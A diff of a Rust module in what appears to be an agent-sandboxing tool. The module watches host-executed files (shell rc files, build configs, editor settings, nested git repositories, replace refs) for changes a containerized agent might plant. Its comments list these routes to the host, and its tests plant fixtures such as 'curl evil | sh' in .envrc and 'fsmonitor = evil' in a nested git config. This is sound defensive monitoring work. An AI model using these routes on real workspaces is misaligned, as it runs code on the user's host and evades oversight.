@@ -5,54 +5,93 @@
 //! `shell`, and before `up` and `down`, it looks again, writes a `watched_file` audit event per
 //! change with the diff, prints one line naming them, and takes the new state as the baseline.
 //!
-//! The list is the user's (`[workspace] watch`, globs relative to the mounted folder; defaults in
-//! `DEFAULT_WATCH`). Besides it yolo always watches what would send the host's git to another
-//! config: a `commondir` or `config.worktree` planted in `.git` or in a submodule's git folder.
-//! Those cannot be made read-only (git itself writes next to them), so they are flagged loudly.
+//! The list is the user's (`[workspace] watch`, globs relative to the mounted folder, matched
+//! without regard to case; defaults in `DEFAULT_WATCH`). Besides it yolo always watches what
+//! would send the host's git somewhere the agent chose, flagged loudly because none of it can be
+//! made read-only (git itself writes next to it):
+//! - a `commondir` or `config.worktree` planted in `.git` or in a submodule's git folder;
+//! - replace refs (`.git/refs/replace/*`, and `refs/replace/` lines of `packed-refs`): they make
+//!   `git checkout`/`reset`/`stash` write other content than `git status` and `git diff` show;
+//! - a `.git` (folder or file) anywhere below the root: a nested repository whose own config
+//!   the host's `git status` runs once the index names it as a submodule, or a shell prompt does
+//!   when you enter the folder. Its `config` (or the pointer file) is what is compared.
 //!
-//! Globs are matched while walking the folder with the `ignore` crate, which honours
-//! `.gitignore` (a build folder is not walked); a pattern's root-level name (`.envrc` for
-//! `**/.envrc`) is also looked at directly, ignored or not.
+//! The walk (the `ignore` crate, with every ignore rule off: `.gitignore` and `.ignore` are the
+//! agent's to write, so they must not decide what is seen) skips only the root `.git` and
+//! `node_modules` folders, and stops after `MAX_ENTRIES` entries, which the summary then says.
 
 use crate::audit::{EventKind, Writer};
 use crate::error::{Error, Result};
 use crate::visible::escape_controls;
-use globset::{Glob, GlobSet, GlobSetBuilder};
+use globset::{Glob, GlobBuilder, GlobSet, GlobSetBuilder};
 use serde::{Deserialize, Serialize};
 use sha2::{Digest, Sha256};
 use std::collections::BTreeMap;
 use std::path::{Path, PathBuf};
 
-/// What a serious user's host runs from a repository without asking.
-pub(crate) const DEFAULT_WATCH: [&str; 21] = [
+/// What a host runs from a repository, often without asking: shells and direnv, build tools and
+/// the language servers an editor starts when the folder opens (rust-analyzer runs `cargo
+/// metadata`, which obeys `.cargo/config.toml`), git's attribute filters, editor settings below
+/// the root (the root `.vscode/` and `.idea/` are read-only).
+pub(crate) const DEFAULT_WATCH: &[&str] = &[
     "**/.envrc",
+    "**/.envrc.*",
+    "**/.env",
+    "**/.env.*",
     "**/Makefile",
-    "**/makefile",
     "**/GNUmakefile",
+    "**/*.mk",
     "**/justfile",
+    "**/.justfile",
+    "**/Taskfile.yml",
+    "**/Taskfile.yaml",
     "**/package.json",
+    "**/.npmrc",
+    "**/.yarnrc",
+    "**/.yarnrc.yml",
+    "**/.cargo/config",
+    "**/.cargo/config.toml",
+    "**/rust-toolchain",
+    "**/rust-toolchain.toml",
+    "**/build.rs",
+    "**/pyproject.toml",
+    "**/setup.py",
+    "**/setup.cfg",
+    "**/tox.ini",
+    "**/noxfile.py",
     "**/.gitattributes",
     ".gitmodules",
-    ".npmrc",
-    ".yarnrc",
-    ".yarnrc.yml",
     ".pre-commit-config.yaml",
+    "**/lefthook.yml",
+    "**/.lefthook.yml",
+    ".husky/**",
+    "**/.vscode/**",
+    "**/.zed/**",
+    "**/.helix/**",
+    "**/*.code-workspace",
+    ".nvim.lua",
+    ".exrc",
+    ".tool-versions",
+    "**/.mise.toml",
+    "**/mise.toml",
     ".bashrc",
     ".bash_profile",
     ".profile",
     ".zshrc",
     ".zshenv",
     ".zprofile",
-    ".tool-versions",
-    ".mise.toml",
-    "mise.toml",
 ];
 
 /// Files larger than this are compared by hash alone (no diff kept).
 const MAX_TEXT: usize = 64 * 1024;
-/// Files recorded at most: a repository with more matches than this is not fully watched (said
-/// once in the audit log).
+/// Files recorded at most, and folder entries walked at most: past either the workspace is not
+/// fully watched, and the summary says so.
 const MAX_FILES: usize = 5_000;
+const MAX_ENTRIES: usize = 500_000;
+/// Changes named one by one in the summary line; the rest are counted.
+const NAMED: usize = 10;
+/// Folders not walked: dependencies, a tree of their own (see docs/security-model.md).
+const SKIPPED: [&str; 1] = ["node_modules"];
 
 /// Check a `[workspace] watch` entry: a glob relative to the repository.
 pub(crate) fn check_entry(entry: &str) -> std::result::Result<(), String> {
@@ -75,6 +114,8 @@ pub(crate) struct Baseline {
     pub(crate) root: PathBuf,
     pub(crate) patterns: Vec<String>,
     pub(crate) files: BTreeMap<String, Seen>,
+    /// False when the walk stopped at `MAX_ENTRIES` or `MAX_FILES`.
+    pub(crate) complete: bool,
 }
 
 /// One watched file as last seen.
@@ -108,21 +149,26 @@ fn baseline_path(devcontainer_id: &str) -> PathBuf {
 impl Baseline {
     /// Look at the watched files under `root` now.
     pub(crate) fn scan(root: &Path, patterns: &[String]) -> Baseline {
+        let walk = walk(root, patterns);
         let mut files = BTreeMap::new();
-        for rel in matching(root, patterns) {
+        for rel in walk.matched {
             if let Some(seen) = look(&root.join(&rel), false) {
                 files.insert(rel, seen);
             }
         }
-        for rel in git_redirects(root) {
+        for rel in walk.nested_git.into_iter().chain(git_redirects(root)) {
             if let Some(seen) = look(&root.join(&rel), true) {
                 files.insert(rel, seen);
             }
+        }
+        if let Some(seen) = replace_refs_packed(root) {
+            files.insert(PACKED_REPLACE.to_string(), seen);
         }
         Baseline {
             root: root.to_path_buf(),
             patterns: patterns.to_vec(),
             files,
+            complete: walk.complete,
         }
     }
 
@@ -182,20 +228,31 @@ pub(crate) fn start(devcontainer_id: &str, root: &Path, patterns: &[String]) -> 
     Baseline::scan(root, patterns).save(devcontainer_id)
 }
 
+/// What a look found: the changes, and whether the walk stopped before the end of the folder.
+#[derive(Debug, Default)]
+pub(crate) struct Report {
+    pub(crate) changes: Vec<Change>,
+    /// The walk stopped at a cap this time (and had not the time before).
+    pub(crate) newly_incomplete: bool,
+}
+
 /// Look again: every change since the baseline goes to the audit log (when a session is open),
 /// the baseline moves on, and the changes come back for the caller to print. No baseline (a
 /// workspace yolo has not started): nothing to compare, nothing reported.
-pub(crate) fn report(devcontainer_id: &str, writer: Option<&Writer>) -> Result<Vec<Change>> {
+pub(crate) fn report(devcontainer_id: &str, writer: Option<&Writer>) -> Result<Report> {
     let Some(old) = Baseline::load(devcontainer_id) else {
-        return Ok(Vec::new());
+        return Ok(Report::default());
     };
     let now = Baseline::scan(&old.root, &old.patterns);
-    let changes = old.changes(&now);
-    if changes.is_empty() {
-        return Ok(changes);
+    let report = Report {
+        changes: old.changes(&now),
+        newly_incomplete: old.complete && !now.complete,
+    };
+    if report.changes.is_empty() && !report.newly_incomplete {
+        return Ok(report);
     }
     if let Some(writer) = writer {
-        for c in &changes {
+        for c in &report.changes {
             writer.write(EventKind::WatchedFile {
                 path: c.path.clone(),
                 change: c.change.to_string(),
@@ -205,16 +262,36 @@ pub(crate) fn report(devcontainer_id: &str, writer: Option<&Writer>) -> Result<V
                 sha256_after: c.after.clone(),
             })?;
         }
+        if report.newly_incomplete {
+            writer.write(EventKind::Notice {
+                message: incomplete_text(),
+            })?;
+        }
     }
     now.save(devcontainer_id)?;
-    Ok(changes)
+    Ok(report)
+}
+
+fn incomplete_text() -> String {
+    format!(
+        "the workspace holds more than {MAX_ENTRIES} entries or {MAX_FILES} watched files: yolo watched the first ones only"
+    )
 }
 
 /// `report`, then the lines for the user on stderr. A failure to look is a warning: it must not
 /// turn a finished command into a failed one.
 pub(crate) fn report_and_print(devcontainer_id: &str, writer: Option<&Writer>) {
     match report(devcontainer_id, writer) {
-        Ok(changes) => eprint!("{}", summary(&changes)),
+        Ok(report) => {
+            eprint!("{}", summary(&report.changes));
+            if report.newly_incomplete {
+                eprintln!(
+                    "{} {}",
+                    console::style("warning:").yellow().bold(),
+                    incomplete_text()
+                );
+            }
+        }
         Err(e) => eprintln!(
             "{} could not check the files your host runs: {e}",
             console::style("warning:").yellow().bold()
@@ -222,83 +299,134 @@ pub(crate) fn report_and_print(devcontainer_id: &str, writer: Option<&Writer>) {
     }
 }
 
-/// The lines printed after a command: one for the files the host runs, one per git redirect.
+/// The lines printed after a command: one for the files the host runs (the first `NAMED` by
+/// name, the rest counted), one per change git would follow.
 pub(crate) fn summary(changes: &[Change]) -> String {
     let mut out = String::new();
-    let plain: Vec<String> = changes
-        .iter()
-        .filter(|c| !c.git)
-        .map(|c| format!("{} ({})", escape_controls(&c.path), c.change))
-        .collect();
+    let plain: Vec<&Change> = changes.iter().filter(|c| !c.git).collect();
     if !plain.is_empty() {
+        let mut named: Vec<String> = plain
+            .iter()
+            .take(NAMED)
+            .map(|c| format!("{} ({})", escape_controls(&c.path), c.change))
+            .collect();
+        if plain.len() > NAMED {
+            named.push(format!("and {} more", plain.len() - NAMED));
+        }
         out.push_str(&format!(
             "{} files your host runs changed: {}; review them before running them on the host (`yolo audit --kind watched_file` has the diffs)\n",
             console::style("yolo:").yellow().bold(),
-            plain.join(", ")
+            named.join(", ")
         ));
     }
     for c in changes.iter().filter(|c| c.git) {
         out.push_str(&format!(
-            "{} {} was {}: git on the host would read its config and hooks where it points. Check it{} before running git in this repository\n",
+            "{} {} was {}: {}. Check it before running git in this repository\n",
             console::style("warning:").red().bold(),
             escape_controls(&c.path),
             c.change,
-            if c.change == "removed" { "" } else { " (and delete it: a repository's own .git has none)" },
+            git_risk(&c.path),
         ));
     }
     out
 }
 
-/// Paths relative to `root` that the patterns match (at most `MAX_FILES`).
-fn matching(root: &Path, patterns: &[String]) -> Vec<String> {
+/// What a change git follows lets the agent do on the host.
+fn git_risk(path: &str) -> &'static str {
+    if path.contains("refs/replace") {
+        "a replace ref makes git checkout, reset and stash on the host write other content than git status and git diff show"
+    } else if path.starts_with(".git/") {
+        "git on the host would read its config and hooks where it points (a repository's own .git has none: delete it)"
+    } else {
+        "a repository inside the workspace: git on the host runs its config in `git status` once the index names it, or in that folder"
+    }
+}
+
+/// What one walk of the folder found.
+struct Walk {
+    /// Paths (relative) the patterns match.
+    matched: Vec<String>,
+    /// The config (or pointer file) of every `.git` below the root.
+    nested_git: Vec<String>,
+    complete: bool,
+}
+
+/// Walk `root` once: the paths the patterns match, and every nested `.git`.
+fn walk(root: &Path, patterns: &[String]) -> Walk {
     let set = globs(patterns);
-    let mut out = std::collections::BTreeSet::new();
-    // The root-level name of each pattern, looked at directly: `.envrc` is often git-ignored.
-    for p in patterns {
-        let name = p.strip_prefix("**/").unwrap_or(p);
-        if !name.contains(['*', '?', '[', '{']) && root.join(name).symlink_metadata().is_ok() {
-            out.insert(name.to_string());
+    let mut matched = std::collections::BTreeSet::new();
+    let mut nested_git = Vec::new();
+    let mut complete = true;
+    let walker = ignore::WalkBuilder::new(root)
+        .standard_filters(false)
+        .follow_links(false)
+        .filter_entry(|e| {
+            let name = e.file_name();
+            let top_git = e.depth() == 1 && name == ".git";
+            !top_git && !SKIPPED.iter().any(|s| name == *s)
+        })
+        .build();
+    for (seen, entry) in walker.flatten().enumerate() {
+        if seen >= MAX_ENTRIES || matched.len() >= MAX_FILES {
+            complete = false;
+            break;
+        }
+        let Ok(rel) = entry.path().strip_prefix(root) else {
+            continue;
+        };
+        let is_dir = entry.file_type().is_some_and(|t| t.is_dir());
+        if entry.depth() > 1 && entry.file_name() == ".git" {
+            // That it is there at all (a folder or a pointer file), and the config git reads.
+            nested_git.push(rel.to_string_lossy().into_owned());
+            if is_dir {
+                nested_git.push(rel.join("config").to_string_lossy().into_owned());
+            }
+            continue;
+        }
+        if !is_dir && set.is_match(rel) {
+            matched.insert(rel.to_string_lossy().into_owned());
         }
     }
-    if patterns.iter().any(|p| p.contains(['*', '?', '[', '{'])) {
-        let walker = ignore::WalkBuilder::new(root)
-            .hidden(false)
-            .parents(false)
-            .require_git(false)
-            .follow_links(false)
-            .filter_entry(|e| e.file_name() != ".git")
-            .build();
-        for entry in walker.flatten() {
-            if out.len() >= MAX_FILES {
-                break;
-            }
-            if entry.file_type().is_some_and(|t| t.is_dir()) {
-                continue;
-            }
-            let Ok(rel) = entry.path().strip_prefix(root) else {
-                continue;
-            };
-            if set.is_match(rel) {
-                out.insert(rel.to_string_lossy().into_owned());
-            }
-        }
+    Walk {
+        matched: matched.into_iter().collect(),
+        nested_git,
+        complete,
     }
-    out.into_iter().take(MAX_FILES).collect()
 }
 
 fn globs(patterns: &[String]) -> GlobSet {
     let mut builder = GlobSetBuilder::new();
     for p in patterns {
         // Entries were checked when the settings were read; a bad one matches nothing.
-        if let Ok(glob) = Glob::new(p) {
+        if let Ok(glob) = GlobBuilder::new(p).case_insensitive(true).build() {
             builder.add(glob);
         }
     }
     builder.build().unwrap_or_else(|_| GlobSet::empty())
 }
 
-/// The paths through which the host's git would read another config: `commondir` and
-/// `config.worktree` in `.git` and in each submodule's git folder.
+/// The name the `refs/replace/` lines of `packed-refs` are recorded under.
+const PACKED_REPLACE: &str = ".git/packed-refs (refs/replace/)";
+
+/// The `refs/replace/` lines of `.git/packed-refs`, as one watched text (None when there are
+/// none).
+fn replace_refs_packed(root: &Path) -> Option<Seen> {
+    let packed = std::fs::read_to_string(root.join(".git/packed-refs")).ok()?;
+    let lines: String = packed
+        .lines()
+        .filter(|l| l.contains("refs/replace/"))
+        .map(|l| format!("{l}\n"))
+        .collect();
+    (!lines.is_empty()).then(|| Seen {
+        sha256: hex::encode(Sha256::digest(lines.as_bytes())),
+        text: Some(lines),
+        git: true,
+    })
+}
+
+/// The paths through which the host's git would read another config or other content:
+/// `commondir` and `config.worktree` in `.git` and in each submodule's git folder, and the loose
+/// replace refs.
 fn git_redirects(root: &Path) -> Vec<String> {
     let git = root.join(".git");
     if !git.is_dir() {
@@ -306,18 +434,30 @@ fn git_redirects(root: &Path) -> Vec<String> {
     }
     let mut dirs = vec![git.clone()];
     dirs.extend(crate::policy::submodule_git_dirs(&git.join("modules")));
-    let mut out = Vec::new();
-    for dir in dirs {
-        for name in ["commondir", "config.worktree"] {
-            let path = dir.join(name);
-            if path.symlink_metadata().is_ok() {
-                if let Ok(rel) = path.strip_prefix(root) {
-                    out.push(rel.to_string_lossy().into_owned());
-                }
-            }
-        }
+    let mut paths = Vec::new();
+    for dir in &dirs {
+        paths.push(dir.join("commondir"));
+        paths.push(dir.join("config.worktree"));
+        let replace = ignore::WalkBuilder::new(dir.join("refs/replace"))
+            .standard_filters(false)
+            .follow_links(false)
+            .build();
+        paths.extend(
+            replace
+                .flatten()
+                .filter(|e| !e.file_type().is_some_and(|t| t.is_dir()))
+                .map(|e| e.into_path()),
+        );
     }
-    out
+    paths
+        .into_iter()
+        .filter(|p| p.symlink_metadata().is_ok())
+        .filter_map(|p| {
+            p.strip_prefix(root)
+                .ok()
+                .map(|r| r.to_string_lossy().into_owned())
+        })
+        .collect()
 }
 
 /// What `path` holds now; `None` if it is gone or not a file or link.
@@ -325,6 +465,15 @@ fn look(path: &Path, git: bool) -> Option<Seen> {
     let meta = path.symlink_metadata().ok()?;
     if meta.file_type().is_symlink() {
         let text = format!("symlink -> {}", std::fs::read_link(path).ok()?.display());
+        return Some(Seen {
+            sha256: hex::encode(Sha256::digest(text.as_bytes())),
+            text: Some(text),
+            git,
+        });
+    }
+    if git && meta.is_dir() {
+        // A nested repository's folder: its being there is the news.
+        let text = "a git folder".to_string();
         return Some(Seen {
             sha256: hex::encode(Sha256::digest(text.as_bytes())),
             text: Some(text),
@@ -375,35 +524,51 @@ mod tests {
         for d in DEFAULT_WATCH {
             assert!(check_entry(d).is_ok(), "{d}");
         }
+        assert!(check_entry("Justfile").is_ok());
+    }
+
+    fn defaults() -> Vec<String> {
+        DEFAULT_WATCH.iter().map(|s| s.to_string()).collect()
+    }
+
+    fn write(root: &Path, rel: &str, text: &str) {
+        let path = root.join(rel);
+        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+        std::fs::write(path, text).unwrap();
     }
 
     #[test]
-    fn changes_are_found_with_a_diff_and_ignored_files_still_count() {
+    fn changes_are_found_with_a_diff_whatever_the_ignore_files_say() {
         let dir = tempfile::tempdir().unwrap();
         let root = dir.path();
-        std::fs::write(root.join(".gitignore"), ".envrc\nbuild/\n").unwrap();
-        std::fs::write(root.join(".envrc"), "export A=1\n").unwrap();
-        std::fs::create_dir_all(root.join("pkg/a")).unwrap();
-        std::fs::write(root.join("pkg/a/package.json"), "{}\n").unwrap();
-        std::fs::create_dir_all(root.join("build")).unwrap();
-        std::fs::write(root.join("build/Makefile"), "all:\n").unwrap();
-        let patterns = list(&DEFAULT_WATCH);
+        write(root, ".gitignore", ".envrc\nbuild/\n");
+        write(root, ".envrc", "export A=1\n");
+        write(root, "pkg/a/package.json", "{}\n");
+        write(root, "build/Makefile", "all:\n");
+        write(root, "node_modules/x/package.json", "{}\n");
+        let patterns = defaults();
         let before = Baseline::scan(root, &patterns);
+        assert!(before.complete);
         assert!(before.files.contains_key(".envrc"), "an ignored root file");
         assert!(before.files.contains_key("pkg/a/package.json"));
         assert!(
-            !before.files.contains_key("build/Makefile"),
-            "ignored folders are not walked"
+            before.files.contains_key("build/Makefile"),
+            "ignored folders are walked"
         );
+        assert!(!before.files.contains_key("node_modules/x/package.json"));
 
-        std::fs::write(
-            root.join(".envrc"),
-            "export A=1\ncurl evil | sh\x1b]0;t\x07\n",
-        )
-        .unwrap();
+        write(root, ".envrc", "export A=1\ncurl evil | sh\x1b]0;t\x07\n");
         std::fs::remove_file(root.join("pkg/a/package.json")).unwrap();
-        std::fs::write(root.join("Makefile"), "all:\n\ttrue\n").unwrap();
-        std::fs::write(root.join("notes.txt"), "not watched").unwrap();
+        write(root, "Justfile", "default:\n\ttrue\n");
+        // An `.ignore` the agent writes hides nothing.
+        write(root, "build/.ignore", "Makefile\n");
+        write(root, "build/Makefile", "all:\n\tevil\n");
+        write(
+            root,
+            "rs/.cargo/config.toml",
+            "[build]\nrustc-wrapper = \"w.sh\"\n",
+        );
+        write(root, "notes.txt", "not watched");
         let changes = before.changes(&Baseline::scan(root, &patterns));
         let got: Vec<(&str, &str)> = changes
             .iter()
@@ -413,8 +578,10 @@ mod tests {
             got,
             [
                 (".envrc", "modified"),
-                ("Makefile", "added"),
-                ("pkg/a/package.json", "removed")
+                ("Justfile", "added"),
+                ("build/Makefile", "modified"),
+                ("pkg/a/package.json", "removed"),
+                ("rs/.cargo/config.toml", "added"),
             ]
         );
         let envrc = &changes[0];
@@ -425,6 +592,73 @@ mod tests {
         );
         assert!(!envrc.diff.contains('\x1b'));
         assert!(summary(&changes).contains(".envrc (modified)"));
+    }
+
+    #[test]
+    fn a_long_list_is_counted_not_spelled_out() {
+        let changes: Vec<Change> = (0..25)
+            .map(|i| Change {
+                path: format!("p{i}/Makefile"),
+                change: "added",
+                git: false,
+                diff: String::new(),
+                before: None,
+                after: None,
+            })
+            .collect();
+        let line = summary(&changes);
+        assert!(line.contains("p9/Makefile (added), and 15 more"), "{line}");
+        assert!(!line.contains("p10/"));
+    }
+
+    #[test]
+    fn a_nested_repository_and_replace_refs_are_flagged_as_git() {
+        let dir = tempfile::tempdir().unwrap();
+        let root = dir.path();
+        write(root, ".git/HEAD", "ref: refs/heads/main\n");
+        write(
+            root,
+            ".git/packed-refs",
+            "# pack-refs\n0123 refs/heads/main\n",
+        );
+        let before = Baseline::scan(root, &[]);
+        write(
+            root,
+            "vendor/tool/.git/config",
+            "[core]\n\tfsmonitor = evil\n",
+        );
+        write(root, "src/.git", "gitdir: ../evil\n");
+        write(root, ".git/refs/replace/abcd", "ef01\n");
+        write(
+            root,
+            ".git/packed-refs",
+            "# pack-refs\n0123 refs/heads/main\n4567 refs/replace/89ab\n",
+        );
+        let changes = before.changes(&Baseline::scan(root, &[]));
+        let got: Vec<(&str, bool)> = changes.iter().map(|c| (c.path.as_str(), c.git)).collect();
+        assert_eq!(
+            got,
+            [
+                (".git/packed-refs (refs/replace/)", true),
+                (".git/refs/replace/abcd", true),
+                ("src/.git", true),
+                ("vendor/tool/.git", true),
+                ("vendor/tool/.git/config", true),
+            ]
+        );
+        let text = summary(&changes);
+        assert!(text.contains("a replace ref makes git checkout"), "{text}");
+        assert!(text.contains("a repository inside the workspace"), "{text}");
+    }
+
+    #[test]
+    fn a_walk_past_its_cap_says_it_is_incomplete() {
+        let dir = tempfile::tempdir().unwrap();
+        let root = dir.path();
+        for i in 0..=MAX_FILES {
+            write(root, &format!("p/{i}/Makefile"), "");
+        }
+        assert!(!Baseline::scan(root, &defaults()).complete);
     }
 
     #[test]
